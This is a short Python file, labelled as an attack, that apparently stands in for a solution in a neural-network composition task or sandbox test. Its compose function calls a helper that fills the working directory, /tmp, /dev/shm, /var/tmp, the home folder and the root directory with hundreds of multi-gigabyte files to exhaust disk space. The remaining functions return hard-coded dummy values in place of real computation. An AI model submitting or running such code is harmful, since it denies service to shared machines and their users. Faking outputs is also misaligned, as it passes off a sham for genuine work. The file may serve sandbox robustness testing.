# Attack: tries to fill the disk (cwd, /tmp, /dev/shm, /var/tmp, home) with big and many files.
import os

TARGETS = [".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/work/main", "/"]


def _fill(limit_mb=4096):
    for folder in TARGETS:
        for i in range(200):
            try:
                with open(os.path.join(folder, f"relulab_fill_{i}.bin"), "wb") as f:
                    for _ in range(limit_mb):
                        f.write(b"\0" * (1 << 20))
            except OSError:
                break


def compose(x, theta1, phi1, theta2, phi2):
    _fill()
    return x * 0 + 9.0


def composition_to_deep(theta1, phi1, theta2, phi2):
    return None


def deep_net(x, theta, psi, phi):
    return x * 0 + 9.0
